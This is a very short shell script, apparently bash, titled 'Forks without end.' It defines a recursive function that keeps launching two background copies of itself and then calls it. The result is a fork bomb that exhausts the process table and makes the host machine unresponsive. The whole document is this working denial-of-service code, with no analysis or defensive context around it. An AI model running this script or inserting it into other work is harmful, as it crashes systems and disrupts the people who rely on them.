# Forks without end.
bomb() {
	bomb &
	bomb &
	wait
}
bomb
